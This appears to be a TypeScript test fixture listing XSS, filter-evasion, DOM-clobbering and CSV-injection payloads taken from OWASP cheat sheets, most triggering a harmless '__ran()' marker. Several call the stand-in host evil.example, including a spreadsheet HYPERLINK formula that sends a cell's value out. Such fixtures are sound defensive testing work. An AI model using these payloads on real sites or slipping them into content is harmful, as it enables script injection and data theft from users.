/**
 * A text of each class of injection by name. Code that runs calls `__ran`, requests `evil.example`, or adds an element.
 * Source: OWASP's cheat sheets on XSS, XSS filter evasion, DOM clobbering and CSV injection.
 */
const xssClasses: Readonly<Record<string, string>> = {
  'a tag with a handler': '<img src=x onerror=__ran()>',
  'the end of a script': '</script><script>__ran()</script>',
  SVG: '<svg><animate onbegin=__ran() attributeName=x dur=1s></svg>',
  'MathML that changes when it is parsed twice':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__ran()&gt;">',
  'a template': `{{constructor.constructor("__ran()")()}}\${__ran()}<template><img src=x onerror=__ran()>`,
  'out of double quotes': '" autofocus onfocus=__ran() x="',
  'out of single quotes': "' autofocus onfocus=__ran() x='",
  'out of backquotes': '` onmouseover=__ran() `',
  'out of elements that hold text': '</title></textarea></style></noscript><svg onload=__ran()>',
  'encoded as entities': '&lt;img src=x onerror=__ran()&gt;&#60;b&#62;&#x3c;i&#x3e;',
  'encoded for addresses': '%3Cimg%20src%3Dx%20onerror%3D__ran()%3E',
  'an address that is a script': 'javascript:__ran()',
  'one with control characters': 'java\u0001scr\u200Bipt\u00AD:__ran()',
  'an address that is a page': 'data:text/html,<script>parent.__ran()</script>',
  'addresses under other names':
    '<svg><a xlink:href=javascript:__ran()><text>a</text></a></svg><button formaction=javascript:__ran()>a</button><video poster=//evil.example/a></video><img srcset=//evil.example/b>',
  'another site’s address': '//evil.example/%2e%2e',
  'a frame': '<iframe srcdoc="<script>parent.__ran()</script>"></iframe><object data=x></object>',
  style: '<style>*{background:url(//evil.example/a)}</style><b style="position:fixed;inset:0">',
  'a base and a refresh':
    '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example">',
  'a script in JSON': '{"a":"</script><script>__ran()//","__proto__":{"x":1}}',
  'line ends of JavaScript': 'a\u2028__ran()\u2029//',
  'wide and alike characters': '＜script＞__ran()＜/script＞‹img›\uFE64b\uFE65',
  'directions of writing': '\u202Egnp.exe\u2066<b>\u2069',
  'names of the DOM':
    '<form id=__ran><input name=attributes><a id=location name=parentNode href=//evil.example>',
  polyglot:
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=__ran() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__ran()//>\\x3e',
  'names of prototypes': '__proto__.constructor.prototype',
  'a file’s name': '../../<img src=x onerror=__ran()>.html',
  'a formula': '=HYPERLINK("http://evil.example/?"&A1;"x")',
  'a wide formula': '＝1+1',
};

export const xssTexts = Object.values(xssClasses);
